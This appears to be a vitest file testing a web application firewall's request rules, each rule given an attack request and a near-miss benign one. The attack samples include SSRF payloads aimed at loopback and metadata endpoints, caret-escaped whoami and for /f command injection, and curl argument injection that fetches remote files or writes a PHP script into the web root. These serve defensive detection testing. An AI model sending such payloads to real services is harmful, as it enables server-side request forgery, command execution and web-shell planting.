/**
 * Rules of rev 2026-12-10u: three rules whose prefilter trigger was in most benign requests, split so
 * that each part has a specific one (test/signatures/bundled-benign-candidates). 9000528 keeps the
 * hosts it spells; its hosts 0 and 127.1/127.0.1 are 9000540 (right after the `//`) and 9000541 (behind a
 * user-info part). 9000309 keeps the caret, `/v:on`, `%COMSPEC%` and substring branches; `for /f "` is
 * 9000342. 9000365 keeps `-O` right after its delimiter; 9000343 takes it after blanks. 9000373 (ho27, same
 * session) keeps curl's `-K` and Go's `-extld`; a URL followed by `-o` writing a server script is 9000344. Each part fires
 * on its attack and stays quiet on the benign text closest to it.
 */
import { describe } from 'vitest';
import { form, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  [9000528, 'block', 'a loopback host as an integer', json('{"url":"http://2130706433/latest/meta-data/"}'), json('{"url":"http://example.com/2130706433"}')],
  [9000540, 'block', 'the host 0 right after the slashes', form('url=http%3A%2F%2F0%2Fadmin'), form('url=http%3A%2F%2F0.pool.ntp.org%2F')],
  [9000540, 'block', 'loopback as 127.0.1 in a JSON value', json('{"webhook":"http://127.0.1/hook"}'), json('{"webhook":"http://127.0.1.5:9000/hook"}')],
  [9000541, 'block', 'loopback as 127.1 behind a user name', form('url=http%3A%2F%2Fsvc%40127.1%2Fadmin'), form('url=http%3A%2F%2Fsvc%40127.10.0.4%3A8080%2F')],
  [9000541, 'block', 'the host 0 behind user info, percent-encoded @', q('next=http%3A%2F%2Fa%3Ab%25400%2F'), q('next=http%3A%2F%2Fa%3Ab%2540db.internal%2F')],
  [9000309, 'suspicious', 'caret-escaped whoami', q('ip=1%26w%5Eh%5Eo%5Ea%5Em%5Ei'), q('v=%5E1.2.3')],
  [9000342, 'suspicious', 'for /f over a quoted command', form('cmd=for+/f+%22delims%3D%22+%25i+in+(%27whoami%27)+do+echo+%25i'), form('note=for+/f+see+the+docs')],
  [9000365, 'block', '-O glued to a command right after =', q('query=-Oecho+95hj9sna'), q('query=-O2+optimization+flags')],
  [9000343, 'block', '-O glued to a command after blanks', q('query=+-Ocurl+http%3A%2F%2F203.0.113.9%2Fa'), q('query=+-O2+flags')],
  [9000373, 'block', 'curl -K naming a remote config (rev 2)', q('src=-K+https%3A%2F%2Fimg.example.net%2Fa.cfg'), q('src=https%3A%2F%2Fimg.example.net%2F-K.cfg')],
  [9000344, 'block', 'a URL, then -o writing a server script', form('feed=https://sync.example.io/x.txt -o /var/www/html/s.php'), form('feed=https://sync.example.io/x.txt -o /tmp/x.txt')],
];

describe('bundled rules split for specific prefilter triggers (rev 2026-12-10u)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
